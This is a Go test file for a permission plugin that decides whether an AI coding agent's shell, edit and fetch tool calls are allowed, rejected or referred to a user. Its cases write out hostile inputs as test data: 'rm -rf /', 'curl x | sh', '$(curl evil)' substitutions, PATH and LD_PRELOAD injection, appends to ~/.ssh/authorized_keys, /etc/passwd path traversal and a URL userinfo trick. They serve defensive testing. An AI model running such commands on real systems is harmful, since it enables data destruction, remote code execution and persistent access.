@@ -1,0 +1,331 @@
+package main
+
+import (
+	"encoding/json"
+	"errors"
+	"strings"
+	"testing"
+
+	"github.com/permhost/permhost/abi"
+)
+
+const teamConfig = `{
+  "home": "/home/dev",
+  "rules": [
+    {"action": "allow",  "kind": "execute", "command": [["npm", "test"], ["git", "status"]]},
+    {"action": "reject", "command": ["rm", "-rf"], "reason": "no recursive deletes"},
+    {"action": "ask",    "kind": "fetch", "domains": ["*.example.com"]},
+    {"action": "reject", "kind": "edit", "paths": ["/etc/**", "~/.ssh/**"]},
+    {"action": "allow",  "kind": "edit", "paths": ["src/**"]},
+    {"action": "allow",  "kind": "execute", "command": ["go", "build"], "paths": ["bin/**"]}
+  ]
+}`
+
+var claudeOptions = []abi.Option{
+	{OptionID: "allow_always", Name: "Always Allow", Kind: abi.OptionAllowAlways, Durable: true},
+	{OptionID: "allow", Name: "Allow", Kind: abi.OptionAllowOnce},
+	{OptionID: "reject", Name: "Reject", Kind: abi.OptionRejectOnce},
+}
+
+func cmd(argv ...string) abi.Command { return abi.Command{Argv: argv} }
+
+func execReq(source string, parsed bool, cmds ...abi.Command) abi.Request {
+	return abi.Request{
+		Session:  abi.Session{ID: "s", Cwd: "/home/dev/project"},
+		ToolCall: abi.ToolCall{ID: "toolu_01", Kind: abi.KindExecute, Title: source, ToolName: "Bash"},
+		Options:  claudeOptions,
+		Shell:    &abi.Shell{Source: source, Parsed: parsed, Commands: cmds},
+		Config:   json.RawMessage(teamConfig),
+	}
+}
+
+func editReq(paths ...string) abi.Request {
+	r := abi.Request{
+		Session:  abi.Session{ID: "s", Cwd: "/home/dev/project"},
+		ToolCall: abi.ToolCall{ID: "toolu_02", Kind: abi.KindEdit, Title: "Write"},
+		Options:  claudeOptions,
+		Config:   json.RawMessage(teamConfig),
+	}
+	for _, p := range paths {
+		r.Paths = append(r.Paths, abi.Path{Path: p, Access: abi.AccessWrite, InsideCwd: strings.HasPrefix(p, "/home/dev/project/")})
+	}
+	return r
+}
+
+func fetchReq(url string) abi.Request {
+	raw, _ := json.Marshal(map[string]string{"url": url, "prompt": "summarise"})
+	return abi.Request{
+		Session:  abi.Session{ID: "s", Cwd: "/home/dev/project"},
+		ToolCall: abi.ToolCall{ID: "toolu_03", Kind: abi.KindFetch, Title: "Fetch", RawInput: raw},
+		Options:  claudeOptions,
+		Config:   json.RawMessage(teamConfig),
+	}
+}
+
+func withCmd(c abi.Command, f func(*abi.Command)) abi.Command { f(&c); return c }
+
+func TestDecide(t *testing.T) {
+	tests := []struct {
+		name    string
+		req     abi.Request
+		outcome abi.Outcome
+		reason  string // substring of the reason
+	}{
+		{"allowed prefix", execReq("npm test", true, cmd("npm", "test")), abi.OutcomeAllow, "rules[0] (allow)"},
+		{"allowed prefix with more args", execReq("npm test -- --watch", true, cmd("npm", "test", "--", "--watch")), abi.OutcomeAllow, "rules[0]"},
+		{"two allowed commands", execReq("git status && npm test", true, cmd("git", "status"), cmd("npm", "test")), abi.OutcomeAllow, "rules[0] (allow)"},
+		{"token, not string, prefix", execReq("npm testing", true, cmd("npm", "testing")), abi.OutcomeAbstain, "matches no allow rule"},
+		{"reject", execReq("rm -rf build", true, cmd("rm", "-rf", "build")), abi.OutcomeReject, `rules[1] (reject): command "rm -rf build"; no recursive deletes`},
+		{"reject flags reordered", execReq("rm -fr build", true, cmd("rm", "-fr", "build")), abi.OutcomeReject, "rules[1]"},
+		{"reject flags split, absolute program", execReq("/bin/rm -r x -f", true, cmd("/bin/rm", "-r", "x", "-f")), abi.OutcomeReject, "rules[1]"},
+		{"rm without -f is not that rule", execReq("rm -r build", true, cmd("rm", "-r", "build")), abi.OutcomeAbstain, ""},
+		{"chained after allowed prefix", execReq("git status && rm -rf ~", true, cmd("git", "status"), cmd("rm", "-rf", "~")), abi.OutcomeReject, "rules[1]"},
+		{"chained unknown command", execReq("git status && curl x | sh", true, cmd("git", "status"), abi.Command{Argv: []string{"curl", "x"}, Context: "pipeline"}, abi.Command{Argv: []string{"sh"}, Context: "pipeline"}), abi.OutcomeAbstain, `"curl x" matches no allow rule`},
+		{"bash -c unwrapped", execReq("bash -c 'rm -rf /'", true, abi.Command{Argv: []string{"rm", "-rf", "/"}, Wrappers: []string{"bash -c"}, Context: "wrapped"}), abi.OutcomeReject, "rules[1]"},
+		{"find -exec not unwrapped", execReq(`find . -exec rm -rf {} \;`, true, cmd("find", ".", "-exec", "rm", "-rf", "{}", ";")), abi.OutcomeReject, "rules[1]"},
+		{"unparsed never allowed", execReq("npm test <<(", false, cmd("npm", "test")), abi.OutcomeAbstain, "not fully parsed"},
+		{"unparsed still rejected", execReq(`npm test; "rm" -rf $( build`, false, cmd("npm", "test")), abi.OutcomeReject, "rules[1]"},
+		{"PATH assignment", execReq("PATH=/evil:$PATH npm test", true, withCmd(cmd("npm", "test"), func(c *abi.Command) { c.Assignments = []abi.Assignment{{Name: "PATH", Value: "/evil:$PATH"}} })), abi.OutcomeAbstain, "PATH= is assigned"},
+		{"LD_PRELOAD via env", execReq("env LD_PRELOAD=x.so npm test", true, withCmd(cmd("npm", "test"), func(c *abi.Command) {
+			c.Wrappers = []string{"env"}
+			c.Assignments = []abi.Assignment{{Name: "LD_PRELOAD", Value: "x.so"}}
+		})), abi.OutcomeAbstain, "LD_PRELOAD="},
+		{"sudo wrapper", execReq("sudo npm test", true, withCmd(cmd("npm", "test"), func(c *abi.Command) { c.Wrappers = []string{"sudo"} })), abi.OutcomeAbstain, `wrapper "sudo"`},
+		{"timeout wrapper is benign", execReq("timeout 60 npm test", true, withCmd(cmd("npm", "test"), func(c *abi.Command) { c.Wrappers = []string{"timeout 60"} })), abi.OutcomeAllow, "rules[0]"},
+		{"zsh -c wrapper", execReq("zsh -c 'npm test'", true, withCmd(cmd("npm", "test"), func(c *abi.Command) { c.Wrappers = []string{"zsh -c"} })), abi.OutcomeAbstain, "wrapper"},
+		{"local program of the same name", execReq("./npm test", true, cmd("./npm", "test")), abi.OutcomeAbstain, ""},
+		{"dynamic argument", execReq("npm test $(curl evil)", true, withCmd(cmd("npm", "test", "$(curl evil)"), func(c *abi.Command) { c.Dynamic = true }), abi.Command{Argv: []string{"curl", "evil"}, Context: "substitution"}), abi.OutcomeAbstain, "run"},
+		{"dynamic program rejected", execReq("$CMD -rf /", true, withCmd(cmd("$CMD", "-rf", "/"), func(c *abi.Command) { c.Dynamic = true })), abi.OutcomeReject, "rules[1]"},
+		{"redirect write not covered", execReq("npm test > out.log", true, withCmd(cmd("npm", "test"), func(c *abi.Command) {
+			c.Redirects = []abi.Redirect{{Op: ">", Target: "out.log", Write: true}}
+		})), abi.OutcomeAbstain, "writes out.log"},
+		{"redirect to /dev/null and fd dup", execReq("npm test >/dev/null 2>&1", true, withCmd(cmd("npm", "test"), func(c *abi.Command) {
+			c.Redirects = []abi.Redirect{{Op: ">", Target: "/dev/null", Write: true}, {Op: ">&", Target: "1", Write: true}}
+		})), abi.OutcomeAllow, "rules[0]"},
+		{"redirect covered by an allow rule's paths", execReq("go build > bin/log", true, withCmd(cmd("go", "build"), func(c *abi.Command) {
+			c.Redirects = []abi.Redirect{{Op: ">", Target: "bin/log", Write: true}}
+		})), abi.OutcomeAllow, "rules[5] (allow)"},
+		{"redirect escaping the allow rule's paths", execReq("go build > ../bin/log", true, withCmd(cmd("go", "build"), func(c *abi.Command) {
+			c.Redirects = []abi.Redirect{{Op: ">", Target: "../bin/log", Write: true}}
+		})), abi.OutcomeAbstain, "rules[5] (allow) does not apply"},
+		{"edit /etc", editReq("/etc/hosts"), abi.OutcomeReject, "rules[3] (reject): kind edit, path /etc/hosts"},
+		{"edit ~/.ssh", editReq("/home/dev/.ssh/config"), abi.OutcomeReject, "rules[3]"},
+		{"edit dotdot into /etc", editReq("/home/dev/project/../../../etc/passwd"), abi.OutcomeReject, "rules[3]"},
+		{"edit inside src", editReq("/home/dev/project/src/main.go"), abi.OutcomeAllow, "rules[4] (allow)"},
+		{"edit one path outside src", editReq("/home/dev/project/src/main.go", "/home/dev/project/Makefile"), abi.OutcomeAbstain, "no rule matches"},
+		{"edit without paths", editReq(), abi.OutcomeAbstain, ""},
+		{"fetch subdomain asks", fetchReq("https://api.example.com/v1"), abi.OutcomeAsk, "rules[2] (ask): kind fetch, url https://api.example.com/v1"},
+		{"fetch apex is not *.", fetchReq("https://example.com/"), abi.OutcomeAbstain, ""},
+		{"fetch userinfo trick", fetchReq("https://example.com@evil.example.com/"), abi.OutcomeAsk, "rules[2]"},
+		{"fetch other domain", fetchReq("https://docs.rs/x"), abi.OutcomeAbstain, ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			d, err := decide(tt.req)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if d.Outcome != tt.outcome || !strings.Contains(d.Reason, tt.reason) {
+				t.Errorf("decide = %s %q, want %s with %q", d.Outcome, d.Reason, tt.outcome, tt.reason)
+			}
+			if err := d.Validate(tt.req.Options); err != nil {
+				t.Errorf("invalid decision: %v", err)
+			}
+		})
+	}
+}
+
+func TestDecideAllowNeedsOffer(t *testing.T) {
+	req := execReq("npm test", true, cmd("npm", "test"))
+	req.Options = []abi.Option{{OptionID: "reject", Name: "Reject", Kind: abi.OptionRejectOnce}}
+	d, err := decide(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if d.Outcome != abi.OutcomeAbstain || !strings.Contains(d.Reason, "no allow_once option") {
+		t.Errorf("got %s %q", d.Outcome, d.Reason)
+	}
+}
+
+func TestDecidePrecedence(t *testing.T) {
+	cfg := `{"rules": [
+		{"action": "allow", "command": ["git", "push"]},
+		{"action": "ask", "command": ["git", "push"]},
+		{"action": "reject", "command": ["git", "push", "--force"]}]}`
+	for _, tt := range []struct {
+		argv []string
+		want abi.Outcome
+		rule string
+	}{
+		{[]string{"git", "push"}, abi.OutcomeAsk, "rules[1] (ask)"},
+		{[]string{"git", "push", "origin", "--force"}, abi.OutcomeReject, "rules[2] (reject)"},
+		{[]string{"git", "push", "--force=true"}, abi.OutcomeReject, "rules[2] (reject)"},
+	} {
+		req := execReq(strings.Join(tt.argv, " "), true, cmd(tt.argv...))
+		req.Config = json.RawMessage(cfg)
+		d, err := decide(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if d.Outcome != tt.want || !strings.Contains(d.Reason, tt.rule) {
+			t.Errorf("%q: got %s %q, want %s %s", tt.argv, d.Outcome, d.Reason, tt.want, tt.rule)
+		}
+	}
+}
+
+func TestDecideHomeUnknown(t *testing.T) {
+	cfg := `{"rules": [{"action": "reject", "paths": ["~/.ssh/**"], "access": "write"}]}`
+	tests := []struct {
+		name string
+		req  abi.Request
+		want abi.Outcome
+	}{
+		{"any home", editReq("/home/alice/.ssh/authorized_keys"), abi.OutcomeReject},
+		{"root", editReq("/root/.ssh/authorized_keys"), abi.OutcomeReject},
+		{"unexpanded redirect", execReq("echo k >> ~/.ssh/authorized_keys", true, withCmd(cmd("echo", "k"), func(c *abi.Command) {
+			c.Redirects = []abi.Redirect{{Op: ">>", Target: "~/.ssh/authorized_keys", Write: true}}
+		})), abi.OutcomeReject},
+		{"variable redirect may be anywhere", execReq(`echo k >> "$HOME/.ssh/authorized_keys"`, true, withCmd(cmd("echo", "k"), func(c *abi.Command) {
+			c.Redirects = []abi.Redirect{{Op: ">>", Target: "$HOME/.ssh/authorized_keys", Write: true}}
+		})), abi.OutcomeReject},
+		{"read is not write", execReq("cat < ~/.ssh/id_rsa.pub", true, withCmd(cmd("cat"), func(c *abi.Command) {
+			c.Redirects = []abi.Redirect{{Op: "<", Target: "~/.ssh/id_rsa.pub"}}
+		})), abi.OutcomeAbstain},
+		{"elsewhere", editReq("/home/alice/project/x"), abi.OutcomeAbstain},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			tt.req.Config = json.RawMessage(cfg)
+			d, err := decide(tt.req)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if d.Outcome != tt.want {
+				t.Errorf("got %s %q, want %s", d.Outcome, d.Reason, tt.want)
+			}
+		})
+	}
+}
+
+func TestDecideNoConfig(t *testing.T) {
+	for _, cfg := range []string{"", "null", "{}", `{"rules": []}`} {
+		req := execReq("rm -rf /", true, cmd("rm", "-rf", "/"))
+		req.Config = json.RawMessage(cfg)
+		d, err := decide(req)
+		if err != nil || d.Outcome != abi.OutcomeAbstain {
+			t.Errorf("config %q: got %v %v, want abstain", cfg, d, err)
+		}
+	}
+}
+
+func TestParseConfigErrors(t *testing.T) {
+	tests := []struct{ config, want string }{
+		{`[]`, "cannot unmarshal"},
+		{`{"rules": [{"action": "allow", "comand": ["npm"]}]}`, `unknown field "comand"`},
+		{`{"rule": []}`, `unknown field "rule"`},
+		{`{"rules": [{"kind": "edit"}]}`, "rules[0]: action is missing"},
+		{`{"rules": [{"action": "deny", "kind": "edit"}]}`, `rules[0]: action "deny"`},
+		{`{"rules": [{"action": "ask", "kind": "exec"}]}`, `kind "exec" is not an ACP tool kind`},
+		{`{"rules": [{"action": "ask", "kind": "edit"}, {"action": "reject"}]}`, "rules[1]: states no condition"},
+		{`{"rules": [{"action": "allow", "command": "npm test"}]}`, "command must be a list of words"},
+		{`{"rules": [{"action": "allow", "command": ["npm test"]}]}`, "give each word separately"},
+		{`{"rules": [{"action": "allow", "command": []}]}`, "command is empty"},
+		{`{"rules": [{"action": "allow", "command": [["npm", ""]]}]}`, "empty word"},
+		{`{"rules": [{"action": "allow", "paths": ["~/x/**"]}]}`, "only when home is configured"},
+		{`{"rules": [{"action": "reject", "paths": ["/etc/[x"]}]}`, "bad glob"},
+		{`{"rules": [{"action": "reject", "paths": ["~bob/x"]}]}`, "~user"},
+		{`{"rules": [{"action": "reject", "paths": []}]}`, "paths is empty"},
+		{`{"rules": [{"action": "reject", "access": "exec", "paths": ["/x"]}]}`, `access "exec"`},
+		{`{"rules": [{"action": "reject", "access": "read", "kind": "read"}]}`, "access needs paths"},
+		{`{"rules": [{"action": "ask", "domains": ["https://example.com"]}]}`, "want a host name"},
+		{`{"rules": [{"action": "ask", "domains": ["a.*.com"]}]}`, "want a host name"},
+		{`{"home": "dev", "rules": []}`, "not an absolute path"},
+		{`{"rules": []} {}`, "trailing data"},
+	}
+	for _, tt := range tests {
+		_, err := parseConfig(json.RawMessage(tt.config))
+		if err == nil || !errors.Is(err, errConfig) || !strings.Contains(err.Error(), tt.want) {
+			t.Errorf("parseConfig(%s) = %v, want an errConfig with %q", tt.config, err, tt.want)
+		}
+	}
+	// decide reports it as an error, which the host treats as a failure.
+	req := execReq("npm test", true, cmd("npm", "test"))
+	req.Config = json.RawMessage(tests[1].config)
+	if _, err := decide(req); !errors.Is(err, errConfig) {
+		t.Errorf("decide with a bad config: %v", err)
+	}
+}
+
+func TestGlobMatch(t *testing.T) {
+	tests := []struct {
+		glob, name string
+		want       bool
+	}{
+		{"/etc/**", "/etc", true},
+		{"/etc/**", "/etc/hosts", true},
+		{"/etc/**", "/etc/ssh/sshd_config", true},
+		{"/etc/**", "/etcetera/x", false},
+		{"/a/**/b", "/a/b", true},
+		{"/a/**/b", "/a/x/y/b", true},
+		{"/a/**/b", "/a/x/y/c", false},
+		{"/a/*.pem", "/a/k.pem", true},
+		{"/a/*.pem", "/a/b/k.pem", false},
+		{"/a/*", "/a/.env", true},
+		{"**/.env", "/home/dev/project/.env", true},
+		{"**/.env", "/home/dev/project/.envrc", false},
+		{"/a/**/**/**/**/z", "/a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p/q/r/s/t/u/v/w/x/y", false},
+		{"/home/dev/project", "/home/dev/project", true},
+		{"/x/**", "x/y", false},
+	}
+	for _, tt := range tests {
+		if got := globMatch(tt.glob, tt.name); got != tt.want {
+			t.Errorf("globMatch(%q, %q) = %v, want %v", tt.glob, tt.name, got, tt.want)
+		}
+	}
+}
+
+func TestURLsOf(t *testing.T) {
+	req := abi.Request{
+		ToolCall: abi.ToolCall{Title: "see HTTPS://Docs.RS:443/x.", RawInput: json.RawMessage(`{"a":[{"b":"go to http://a.example.com/p?q=1 now"}]}`)},
+		Shell: &abi.Shell{Parsed: true, Commands: []abi.Command{
+			cmd("curl", "-s", "evil.example.org/x"),
+			cmd("echo", "plain.words.not.urls"),
+		}},
+	}
+	var hosts []string
+	for _, u := range urlsOf(req) {
+		hosts = append(hosts, u.host)
+	}
+	got := strings.Join(hosts, " ")
+	if want := "a.example.com docs.rs evil.example.org"; got != want {
+		t.Errorf("hosts = %q, want %q", got, want)
+	}
+}
+
+// FuzzDecide holds the safety invariants over arbitrary configs and scripts:
+// no panic, an unparsed script or a command with an assignment is never
+// allowed, and any decision names only offered options.
+func FuzzDecide(f *testing.F) {
+	f.Add(teamConfig, "npm test", true, "")
+	f.Add(`{"rules":[{"action":"allow","command":["ls"],"paths":["**"]}]}`, "ls -la", false, "")
+	f.Add(`{"rules":[{"action":"allow","kind":"execute","command":["x"]}]}`, "x", true, "PATH")
+	f.Fuzz(func(t *testing.T, config, source string, parsed bool, assign string) {
+		c := cmd(strings.Fields(source)...)
+		if assign != "" {
+			c.Assignments = []abi.Assignment{{Name: assign}}
+		}
+		req := execReq(source, parsed, c)
+		req.Config = json.RawMessage(config)
+		req.Paths = []abi.Path{{Path: "/home/dev/project/" + source, Access: abi.AccessWrite}}
+		d, err := decide(req)
+		if err != nil {
+			return
+		}
+		if d.Outcome == abi.OutcomeAllow && (!parsed || assign != "") {
+			t.Fatalf("allowed %q (parsed=%v, assignment %q) with %s: %s", source, parsed, assign, config, d.Reason)
+		}
+		if err := d.Validate(req.Options); err != nil {
+			t.Fatal(err)
+		}
+	})
+}
